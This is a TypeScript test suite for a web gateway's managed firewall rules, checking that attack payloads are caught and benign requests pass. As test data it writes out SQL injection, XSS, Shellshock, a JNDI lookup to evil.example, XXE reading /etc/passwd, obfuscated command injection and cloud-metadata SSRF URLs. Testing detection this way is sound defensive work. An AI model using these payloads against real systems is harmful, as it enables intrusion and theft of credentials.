// Managed rules (gateway/rules/managed/): the catalogue, the attack and benign corpora of
// test/fixtures/shield/, every target a rule can read, exclusions, the fast path and hostile input.
// Requests are built in process (test/fixtures/shield/build-request.ts) with the gateway's own field
// collector, so values arrive decoded once, as the origin's framework reads them.
import RE2 from 're2';
import { describe, expect, it } from 'vitest';
import type { ManagedRulesSettings } from '../../platform/db/schema.ts';
import { ANOMALIES } from '../../schemas/managed-rules/anomalies.ts';
import { canonicalText, shellForm } from '../../gateway/rules/managed/canonicalise.ts';
import { RULE_DEFINITIONS } from '../../schemas/managed-rules/catalogue.ts';
import { MANAGED_RULE_CATEGORIES, MANAGED_RULES, compileManagedRules, unknownRuleRefs, type ManagedRuleSet } from '../../gateway/rules/managed/index.ts';
import { isInert } from '../../gateway/rules/managed/prefilter.ts';
import { programFor } from '../../gateway/rules/managed/program.ts';
import { hostClasses } from '../../gateway/rules/managed/ssrf-hosts.ts';
import { TARGETS, type ParanoiaLevel } from '../../schemas/managed-rules/types.ts';
import { benignRequest, buildRequest, queryWithValue } from '../fixtures/shield/build-request.ts';
import { ATTACK_CATEGORIES, loadAttacks, loadBenign } from '../fixtures/shield/corpus.ts';

const LEVELS: readonly ParanoiaLevel[] = [1, 2, 3, 4];

const settings = (paranoia_level: number, exclusions: ManagedRulesSettings['exclusions'] = []): ManagedRulesSettings => ({ enabled: true, paranoia_level, exclusions });
const engine = (level: number, exclusions: ManagedRulesSettings['exclusions'] = [], foldCase = true): ManagedRuleSet => compileManagedRules(settings(level, exclusions), foldCase)!;
const ENGINES = new Map(LEVELS.map((level) => [level, engine(level)]));

/** Rule ids of every rule a level's program finds in one value (not only the first). */
/** The rules of `level` itself (not the weak signals it also counts) that match a value. */
function valueHits(level: ParanoiaLevel, value: string): string[] {
  const program = programFor(level);
  return program.targets.value
    .evaluateFully(value)
    .filter((i) => program.scores[i]! >= program.threshold)
    .map((i) => RULE_DEFINITIONS[i]!.id);
}

const attackRequest = (payload: string) => buildRequest({ path: '/search', query: queryWithValue(payload) });
const ruleOf = (level: number, request: ReturnType<typeof buildRequest>) => ENGINES.get(level as ParanoiaLevel)!.match(request)?.ruleId ?? null;

describe('catalogue', () => {
  it('has unique, well-formed ids in known categories, levels 1–4 and a description', () => {
    const ids = MANAGED_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of MANAGED_RULES) {
      expect(rule.id).toMatch(/^[a-z][a-z0-9_]*\.[a-z0-9_]+$/);
      expect(rule.id.startsWith(`${rule.category}.`)).toBe(true);
      expect(MANAGED_RULE_CATEGORIES).toContain(rule.category);
      expect([1, 2, 3, 4]).toContain(rule.paranoia_level);
      expect(rule.description.length).toBeGreaterThan(10);
      expect(rule.description).not.toContain('\n');
    }
  });

  it('gives every category rules, and level-1 rules to every category', () => {
    for (const category of MANAGED_RULE_CATEGORIES) {
      expect(MANAGED_RULES.some((r) => r.category === category && r.paranoia_level === 1), category).toBe(true);
    }
  });

  it('compiles every pattern in RE2, written in lower case, and gives each rule a pattern or a check', () => {
    for (const rule of RULE_DEFINITIONS) {
      expect(rule.pattern !== undefined || rule.check !== undefined, rule.id).toBe(true);
      if (rule.pattern === undefined) continue;
      expect(() => new RE2(rule.pattern!, 'u'), rule.id).not.toThrow();
      // The canonical text is lower case: an upper-case letter outside an escape could never match.
      expect(rule.pattern.replace(/\\./g, ''), rule.id).not.toMatch(/[A-Z]/);
      expect(rule.targets.length, rule.id).toBeGreaterThan(0);
      for (const target of rule.targets) expect(TARGETS).toContain(target);
    }
  });

  it('maps every protocol anomaly to a rule', () => {
    for (const anomaly of ANOMALIES) expect(MANAGED_RULES.map((r) => r.id)).toContain(`protocol.${anomaly}`);
  });

  it('compiles one program per level, shared by every site', () => {
    for (const level of LEVELS) expect(programFor(level)).toBe(programFor(level));
    expect(compileManagedRules({ enabled: false, paranoia_level: 1, exclusions: [] }, true)).toBeNull();
  });

  it('reports unknown refs', () => {
    expect(unknownRuleRefs(['sqli', 'xss.script_tag', 'protocol.nul_byte'])).toEqual([]);
    expect(unknownRuleRefs(['sqli.nope', 'nosuchcategory', 'sqli'])).toEqual(['sqli.nope', 'nosuchcategory']);
  });
});

describe('attack corpus', () => {
  for (const category of ATTACK_CATEGORIES) {
    const entries = loadAttacks(category);

    it(`${category}: at least the required number of payloads`, () => {
      expect(entries.length).toBeGreaterThanOrEqual(category === 'ssrf' ? 15 : 40);
    });

    it(`${category}: every payload is caught by a ${category} rule at its level, and blocked`, () => {
      const missed: string[] = [];
      for (const entry of entries) {
        const request = attackRequest(entry.payload);
        const value = request.fields[0]!.value;
        const own = valueHits(entry.level, value).filter((id) => id.startsWith(`${category}.`));
        if (own.length === 0 || ruleOf(entry.level, request) === null) missed.push(`line ${entry.line}: ${entry.payload}`);
      }
      expect(missed).toEqual([]);
    });

    it(`${category}: payloads marked for a higher level are not caught by ${category} rules below it`, () => {
      const early: string[] = [];
      for (const entry of entries.filter((e) => e.level > 1)) {
        const value = attackRequest(entry.payload).fields[0]!.value;
        const below = valueHits((entry.level - 1) as ParanoiaLevel, value).filter((id) => id.startsWith(`${category}.`));
        if (below.length > 0) early.push(`line ${entry.line}: ${entry.payload} (${below.join(', ')})`);
      }
      expect(early).toEqual([]);
    });
  }
});

describe('benign corpus', () => {
  const entries = loadBenign();

  it('holds at least 1000 inputs', () => {
    expect(entries.length).toBeGreaterThanOrEqual(1000);
    expect(entries.some((e) => e.text.includes('../'))).toBe(false);
  });

  it('passes at paranoia level 1; false-positive rates per level', () => {
    const rates: number[] = [];
    const flagged: string[] = [];
    for (const level of LEVELS) {
      let positives = 0;
      for (const entry of entries) {
        const hit = ruleOf(level, benignRequest(entry));
        if (hit === null) continue;
        positives++;
        if (level === 1) flagged.push(`${entry.file}: ${entry.text.slice(0, 120)} → ${hit}`);
      }
      rates.push(positives / entries.length);
      console.log(`managed rules PL${level}: ${positives}/${entries.length} benign inputs flagged (${((100 * positives) / entries.length).toFixed(2)} %)`);
    }
    // Level 1 promises near-zero false positives: any benign input it flags is a rule bug (or the
    // input is attack-shaped and belongs in no benign corpus), so the bound is zero.
    expect(flagged).toEqual([]);
    // Each level is a superset of the one below.
    for (let i = 1; i < rates.length; i++) expect(rates[i]!).toBeGreaterThanOrEqual(rates[i - 1]!);
  });
});

describe('targets', () => {
  const pl1 = ENGINES.get(1)!;

  it('reads query, form, JSON, cookie and file-name values', () => {
    expect(pl1.match(buildRequest({ query: 'q=1%27%20or%20%271%27%3D%271' }))?.ruleId).toBe('sqli.tautology');
    expect(pl1.match(buildRequest({ form: 'comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }))?.ruleId).toBe('xss.script_tag');
    expect(pl1.match(buildRequest({ json: JSON.stringify({ order: { note: ';cat /etc/passwd' } }) }))?.ruleId).toBe('traversal.unix_system_file');
    expect(pl1.match(buildRequest({ json: JSON.stringify({ items: [{ url: 'http://0xa9fea9fe/latest' }] }) }))?.ruleId).toBe('ssrf.cloud_metadata');
    expect(pl1.match(buildRequest({ headers: { cookie: 'session=abc; pref=%3Csvg%2Fonload%3Dalert(1)%3E' } }))?.ruleId).toBe('xss.event_handler');
    const upload = buildRequest({ fields: [{ source: 'file_name', raw: 'avatar', names: ['avatar'], value: '../../../etc/passwd' }] });
    expect(pl1.match(upload)?.ruleId).toBe('traversal.dot_dot_slash');
  });

  it('reads parameter names', () => {
    expect(pl1.match(buildRequest({ query: 'q%5B%3Cscript%3E%5D=1' }))?.ruleId).toBe('xss.script_tag');
    expect(pl1.match(buildRequest({ json: JSON.stringify({ "a' or 1=1--": 1 }) }))?.ruleId).toBe('sqli.tautology');
  });

  it('reads what follows an encoded = in a name as a value (a body decoded twice splits there)', () => {
    // `id=1 OR 1=1` is an attack only as a value: the tautology rule reads values from their start.
    expect(pl1.match(buildRequest({ form: 'id%3D1%20OR%201%3D1' }))?.ruleId).toBe('sqli.numeric_tautology');
    expect(pl1.match(buildRequest({ form: 'id=1%20OR%201%3D1' }))?.ruleId).toBe('sqli.numeric_tautology');
    expect(pl1.match(buildRequest({ form: 'note%3DOR%201' }))).toBeNull();
  });

  it('reads a query or form parameter sent without a value as a value too (the raw query string is one)', () => {
    // A command line alone is an attack only as a value: cmdi.command_line reads values.
    expect(pl1.match(buildRequest({ query: '%27%20whoami' }))?.ruleId).toBe('cmdi.command_line');
    expect(pl1.match(buildRequest({ form: 'uname%20-a' }))?.ruleId).toBe('cmdi.command_line');
    expect(pl1.match(buildRequest({ query: 'print&amp' }))).toBeNull();
    // A cookie pair without `=` is a name alone, as PHP reads the header.
    expect(pl1.match(buildRequest({ headers: { cookie: '<?php phpinfo(); ?>=value' } }))?.ruleId).toBe('php.code_function');
    expect(pl1.match(buildRequest({ headers: { cookie: 'theme=dark; beta' } }))).toBeNull();
  });

  it('reads a Referer that is no absolute URL as any other header', () => {
    expect(pl1.match(buildRequest({ headers: { referer: 'cat /etc/passwd' } }))?.ruleId).toBe('traversal.unix_system_file');
    expect(pl1.match(buildRequest({ headers: { referer: 'https://docs.example/etc/passwd-format' } }))).toBeNull();
  });

  it('reads the decoded path (traversal, hidden files), not only the query', () => {
    expect(pl1.match(buildRequest({ path: '/static/..%2f..%2fetc%2fpasswd' }))?.ruleId).toBe('traversal.dot_dot_slash');
    expect(pl1.match(buildRequest({ path: '/static/%252e%252e%252fsecret' }))?.ruleId).toBe('traversal.dot_dot_slash');
    expect(pl1.match(buildRequest({ path: '/.git/config' }))?.ruleId).toBe('traversal.application_secret');
    expect(pl1.match(buildRequest({ path: '/.env' }))?.ruleId).toBe('traversal.hidden_path');
    expect(pl1.match(buildRequest({ path: '/.well-known/security.txt' }))).toBeNull();
  });

  it('reads User-Agent and Referer', () => {
    expect(pl1.match(buildRequest({ headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } }))?.ruleId).toBe('cmdi.shellshock');
    expect(pl1.match(buildRequest({ headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }))?.ruleId).toBe('protocol.scanner_user_agent');
    expect(pl1.match(buildRequest({ headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } }))?.ruleId).toBe('cmdi.jndi_lookup');
    expect(pl1.match(buildRequest({ headers: { referer: "https://shop.example.com/search?q=1'+union+select+1,2--" } }))?.ruleId).toBe('sqli.union_select');
    // A referer pointing at a private address is where the visitor came from, not a request target.
    expect(pl1.match(buildRequest({ headers: { referer: 'http://169.254.169.254/' } }))).toBeNull();
  });

  it('reads a text body', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    expect(pl1.match(buildRequest({ bodyText: xxe }))?.ruleId).toBe('traversal.unix_system_file');
    expect(valueHits(1, xxe)).toContain('traversal.xml_external_entity');
    const soap = '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples &amp; pears</Item></GetPrice></soap:Body></soap:Envelope>';
    expect(pl1.match(buildRequest({ bodyText: soap }))).toBeNull();
  });

  it('turns anomalies into protocol rules at their levels', () => {
    expect(pl1.match(buildRequest({ query: 'q=%C0%AFfoo' }))?.ruleId).toBe('protocol.overlong_utf8');
    expect(pl1.match(buildRequest({ query: 'q=%u0041' }))?.ruleId).toBe('protocol.percent_u');
    expect(pl1.match(buildRequest({ query: 'q=a%00b' }))?.ruleId).toBe('protocol.nul_byte');
    expect(pl1.match(buildRequest({ anomalies: ['multipart_invalid'] }))?.ruleId).toBe('protocol.multipart_invalid');
    expect(pl1.match(buildRequest({ query: 'q=caf%E9' }))).toBeNull();
    expect(ENGINES.get(2)!.match(buildRequest({ query: 'q=caf%E9' }))?.ruleId).toBe('protocol.invalid_utf8');
    expect(ENGINES.get(2)!.match(buildRequest({ json: '{"a":1,"a":2}' }))).toBeNull();
    expect(ENGINES.get(3)!.match(buildRequest({ json: '{"a":1,"a":2}' }))?.ruleId).toBe('protocol.duplicate_json_key');
    expect(ENGINES.get(3)!.match(buildRequest({ query: 'tag=a&tag=b' }))).toBeNull();
    expect(ENGINES.get(4)!.match(buildRequest({ query: 'tag=a&tag=b' }))?.ruleId).toBe('protocol.parameter_pollution');
    // An attack written with an anomaly is reported as the attack.
    expect(pl1.match(buildRequest({ query: 'f=..%c0%af..%c0%afetc%c0%afpasswd' }))?.ruleId).toBe('traversal.dot_dot_slash');
  });

  it('checks the method and a missing User-Agent at their levels', () => {
    expect(pl1.match(buildRequest({ method: 'TRACE' }))).toBeNull();
    expect(ENGINES.get(2)!.match(buildRequest({ method: 'TRACE' }))?.ruleId).toBe('protocol.debug_method');
    expect(ENGINES.get(2)!.match(buildRequest({ headers: { 'user-agent': null } }))).toBeNull();
    expect(ENGINES.get(3)!.match(buildRequest({ headers: { 'user-agent': null } }))?.ruleId).toBe('protocol.missing_user_agent');
  });

  it('passes a realistic GET and JSON POST', () => {
    expect(pl1.match(buildRequest({ path: '/search', query: 'q=running+shoes&page=2&sort=price_asc', headers: { cookie: '_ga=GA1.2.1.2; session=abc123', referer: 'https://www.google.com/' } }))).toBeNull();
    const order = JSON.stringify({ items: [{ sku: 'ABC-123', qty: 2 }], note: "Leave at the door, it's fine; thanks!", email: 'jane@example.com' });
    expect(pl1.match(buildRequest({ path: '/api/orders', json: order }))).toBeNull();
  });
});

describe('canonicalisation', () => {
  it('decodes double encoding, entities, JS escapes, fullwidth forms; strips comments and NUL; folds space', () => {
    expect(canonicalText('%2527')).toBe("'");
    expect(canonicalText('%252e')).toBe('.'); // the framework decoded once already: %2525252e on the wire
    expect(canonicalText('%25252e')).toBe('%2e');
    expect(canonicalText('&lt;ScRipt&gt;')).toBe('<script>');
    expect(canonicalText('&#x3C;&#60&#0000060;&lt')).toBe('<<<<');
    expect(canonicalText('java&Tab;script&colon;')).toBe('java script:');
    expect(canonicalText('\\u003cimg\\x3e')).toBe('<img>');
    expect(canonicalText('＜ＳＣＲＩＰＴ＞')).toBe('<script>');
    expect(canonicalText('it’s')).toBe("it's");
    expect(canonicalText('UN/**/ION/*!50000SELECT*/1')).toBe('un ion select 1');
    expect(canonicalText('a\0b')).toBe('ab');
    expect(canonicalText('a \t b\r\n\n c')).toBe('a b\nc');
    expect(canonicalText('union%A0select')).toBe('union select');
  });

  it('builds the shell form', () => {
    expect(shellForm(canonicalText(";c'a't${IFS}/e\"t\"c/pa\\sswd"))).toBe(';cat /etc/passwd');
    expect(shellForm(';{cat,/etc/passwd}')).toBe('; cat /etc/passwd ');
    expect(shellForm('& w^h^o^a^m^i')).toBe('& whoami');
    expect(shellForm(';who$@ami')).toBe(';whoami');
  });
});

describe('ssrf host classification', () => {
  const classes = (text: string) => [...hostClasses(canonicalText(text))].sort();
  it('sees 169.254.169.254 in every notation', () => {
    for (const url of [
      'http://169.254.169.254/',
      'http://2852039166/',
      'http://0xa9fea9fe/',
      'http://0251.0376.0251.0376/',
      'http://0xa9.0xfe.0xa9.0xfe/',
      'http://169.254.43518/',
      'http://[::ffff:169.254.169.254]/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://[64:ff9b::a9fe:a9fe]/',
      'https://user@169.254.169.254:80/',
      'http://good.example@169.254.169.254@evil.example/',
      'http:169.254.169.254/',
      'http:\\\\169.254.169.254\\',
      'see http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/ for credentials',
      '169.254.169.254/latest',
      'http://169-254-169-254.nip.io/',
    ]) {
      expect(classes(url), url).toContain('metadata');
    }
    expect(classes('http://[fd00:ec2::254]/')).toContain('metadata');
    expect(classes('http://metadata.google.internal/')).toEqual(['metadata']);
  });

  it('tells obfuscated, loopback, private and public hosts apart', () => {
    expect(classes('http://127.0.0.1/')).toEqual(['loopback']);
    expect(classes('http://127.1/')).toEqual(['loopback', 'obfuscated']);
    expect(classes('http://0/')).toEqual(['loopback', 'obfuscated']);
    expect(classes('http://10.1.2.3/')).toEqual(['private']);
    expect(classes('http://169.254.10.1/')).toEqual(['link_local']);
    expect(classes('http://[fe80::1]/')).toEqual(['link_local']);
    expect(classes('http://3627734734/')).toEqual([]); // a public address in decimal
    expect(classes('https://example.com/?next=https://example.org/a?b=c')).toEqual([]);
    expect(classes('10.5')).toEqual([]); // a price, not an address
    expect(classes('2852039166')).toEqual([]); // a number without a scheme is an id
    expect(classes('//2852039166/latest')).toEqual(['metadata', 'obfuscated']); // protocol-relative
    expect(classes('/api//1234/items')).toEqual([]); // a doubled slash in a path
    expect([...hostClasses(canonicalText('//1234'), true)]).toEqual([]);
    expect(ENGINES.get(1)!.match(buildRequest({ path: '/api//1234' }))).toBeNull();
    expect(ENGINES.get(1)!.match(buildRequest({ path: '/fetch/http://0xa9fea9fe/' }))?.ruleId).toBe('ssrf.cloud_metadata');
  });
});

describe('exclusions', () => {
  const sqli = () => buildRequest({ path: '/search', query: "q=1'+or+'1'='1&page=2" });
  const xssInComment = () => buildRequest({ path: '/Blog/Post', json: JSON.stringify({ comment: '<script>steal()</script>' }) });

  it('by rule id site-wide', () => {
    expect(engine(1, [{ rules: ['sqli.tautology'] }]).match(sqli())).toBeNull();
    expect(engine(1, [{ rules: ['sqli.union_select'] }]).match(sqli())?.ruleId).toBe('sqli.tautology');
  });

  it('by category site-wide', () => {
    expect(engine(1, [{ rules: ['sqli'] }]).match(sqli())).toBeNull();
    expect(engine(1, [{ rules: ['xss'] }]).match(sqli())?.ruleId).toBe('sqli.tautology');
  });

  it('falls through to the next rule that matches', () => {
    const both = buildRequest({ query: 'q=%3Cscript%3E%3C%2Fscript%3E%27%20or%201%3D1--' });
    expect(engine(1).match(both)?.ruleId).toBe('sqli.tautology');
    expect(engine(1, [{ rules: ['sqli'] }]).match(both)?.ruleId).toBe('xss.script_tag');
  });

  it('by url_pattern, with the site’s case folding', () => {
    expect(engine(1, [{ rules: ['xss'], url_pattern: '/blog/*' }]).match(xssInComment())).toBeNull();
    expect(engine(1, [{ rules: ['xss'], url_pattern: '/blog/*' }], false).match(xssInComment())?.ruleId).toBe('xss.script_tag');
    expect(engine(1, [{ rules: ['xss'], url_pattern: '/shop/*' }]).match(xssInComment())?.ruleId).toBe('xss.script_tag');
  });

  it('by parameter (any of a field’s names), and not for other parameters', () => {
    expect(engine(1, [{ rules: ['xss.script_tag'], parameter: 'comment' }]).match(xssInComment())).toBeNull();
    expect(engine(1, [{ rules: ['xss.script_tag'], parameter: 'COMMENT' }]).match(xssInComment())).toBeNull();
    expect(engine(1, [{ rules: ['xss.script_tag'], parameter: 'title' }]).match(xssInComment())?.ruleId).toBe('xss.script_tag');
    const nested = buildRequest({ json: JSON.stringify({ post: { body: '<script>x</script>' } }) });
    expect(engine(1, [{ rules: ['xss'], parameter: 'post.body' }]).match(nested)).toBeNull();
    expect(engine(1, [{ rules: ['xss'], parameter: 'post' }]).match(nested)).toBeNull();
    const two = buildRequest({ query: 'a=%3Cscript%3E&b=%3Cscript%3E' });
    expect(engine(1, [{ rules: ['xss'], parameter: 'a' }]).match(two)?.ruleId).toBe('xss.script_tag');
  });

  it('by url_pattern and parameter together', () => {
    const ex = [{ rules: ['xss'], url_pattern: '/blog/*', parameter: 'comment' }];
    expect(engine(1, ex).match(xssInComment())).toBeNull();
    expect(engine(1, ex).match(buildRequest({ path: '/shop/x', json: JSON.stringify({ comment: '<script>1</script>' }) }))?.ruleId).toBe('xss.script_tag');
  });

  it('never lets a parameter exclusion switch off path, anomaly or header rules', () => {
    expect(engine(1, [{ rules: ['traversal'], parameter: 'q' }]).match(buildRequest({ path: '/a/..%2f..%2fetc/passwd' }))?.ruleId).toBe('traversal.dot_dot_slash');
    expect(engine(1, [{ rules: ['protocol'], parameter: 'q' }]).match(buildRequest({ query: 'q=a%00' }))?.ruleId).toBe('protocol.nul_byte');
    expect(engine(1, [{ rules: ['protocol.scanner_user_agent'], parameter: 'user-agent' }]).match(buildRequest({ headers: { 'user-agent': 'Nikto/2.5' } }))).toBeNull();
  });
});

describe('fast path', () => {
  // The property prefilter.ts promises: a value it skips can match no value/name/body rule.
  const samples = (): string[] => {
    const out = new Set<string>();
    for (const entry of loadBenign()) out.add(entry.text);
    for (const category of ATTACK_CATEGORIES) {
      for (const entry of loadAttacks(category)) {
        const value = attackRequest(entry.payload).fields[0]!.value;
        out.add(value);
        // The attack's words with its punctuation squeezed out: what inert text can still say.
        const spaced = value.replace(/[^A-Za-z0-9 _.,@#!?[\]-]/g, ' ');
        const squeezed = value.replace(/[^A-Za-z0-9 _.,@#!?[\]-]/g, '');
        // …and glued to a word, to try the word boundaries of both sides.
        for (const text of [spaced, squeezed]) for (const glue of ['', 'x', '1', 'x1', '_']) out.add(glue + text);
      }
    }
    for (const words of ['1 union select 1,2', 'union all select null', 'dbms_lock.sleep 5', 'ctxsys.drithsx.sn 1', 'xp_cmdshell', 'document.cookie', 'window.name', 'wp-config.php', 'win.ini', '.bash_history', '@@version', 'information_schema tables', 'metadata.google.internal', '169.254.169.254', '0xa9fea9fe', 'foo.nip.io', '1 order by 5#', 'x1 order by 5# more', 'x1union select 1,2', '1union select 1,2', 'xdocument.cookie', 'el.insertadjacenthtml', 'tomcat-users.xml', 'child_process', 'abc --', '..', 'a.b.', 'v1.2.3']) {
      out.add(words);
      out.add(words.toUpperCase());
    }
    return [...out];
  };

  it('skips only texts no level can match', () => {
    let skipped = 0;
    const wrong: string[] = [];
    for (const text of samples()) {
      if (!isInert(text)) continue;
      skipped++;
      for (const level of LEVELS) {
        for (const target of ['value', 'name', 'body'] as const) {
          const hits = programFor(level).targets[target].evaluateFully(text);
          if (hits.length > 0) wrong.push(`PL${level} ${target}: ${text} → ${hits.map((i) => RULE_DEFINITIONS[i]!.id).join(', ')}`);
        }
      }
    }
    expect(wrong).toEqual([]);
    expect(skipped).toBeGreaterThan(300);
  });

  it('skips typical inert values', () => {
    for (const text of ['running shoes', 'page 2', 'jane@example.com', 'ABC-123', 'Größe 42', '東京', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_DEF-1', 'Great product!']) expect(isInert(text), text).toBe(true);
    for (const text of ["O'Reilly", 'union select', 'a/b', '1.2.3.4', '50%']) expect(isInert(text), text).toBe(false);
  });
});

describe('hostile input', () => {
  // 100 KB of text built to make a backtracking engine or a careless scanner go quadratic. RE2 and
  // the canonicaliser are linear; these must simply finish (the suite's timeout is the guard) and
  // give the same answers as a short input with the same shape. No timing is asserted.
  const SIZE = 100 * 1024;
  const fill = (unit: string) => unit.repeat(Math.ceil(SIZE / unit.length)).slice(0, SIZE);
  const cases: { text: string; caught: boolean }[] = [
    { text: fill("'or "), caught: false },
    { text: fill('/*'), caught: false },
    { text: fill('${'), caught: true }, // nested lookups: cmdi.jndi_lookup
    { text: fill('%25'), caught: false },
    { text: fill('&#'), caught: false },
    { text: fill('<a '), caught: false },
    { text: fill('a'), caught: false },
    { text: fill('#'), caught: false },
    { text: fill('//'), caught: false },
    { text: fill('union '), caught: false },
    { text: fill('&#x'), caught: false },
    { text: fill('\\u{'), caught: false },
    { text: fill("$'"), caught: false },
    { text: fill('http:@'), caught: false },
    { text: fill('://a@'), caught: false },
    { text: fill('[::'), caught: false },
    { text: fill('; '), caught: false },
    { text: fill('<!--'), caught: false },
    { text: fill(' ') + "' or 1=1--", caught: true },
    { text: fill('(') + '<script>', caught: true },
    { text: fill('..') + '/', caught: true },
    { text: fill('%2e%2e%2f'), caught: true },
  ];

  for (const [i, { text, caught }] of cases.entries()) {
    it(`case ${i}: ${JSON.stringify(text.slice(0, 12))}… (${text.length} chars)`, () => {
      const canonical = canonicalText(text);
      expect(canonical.length).toBeLessThanOrEqual(text.length);
      const request = buildRequest({ json: JSON.stringify({ body: text }) });
      for (const level of [1, 4] as const) {
        const hit = ENGINES.get(level)!.match(request);
        if (level === 1) expect(hit !== null, `PL1 ${hit?.ruleId}`).toBe(caught);
      }
      // The body target reads a plain text body too, and gives the answer the value target gives.
      expect(ENGINES.get(1)!.match(buildRequest({ bodyText: text })) !== null).toBe(caught);
    });
  }
});
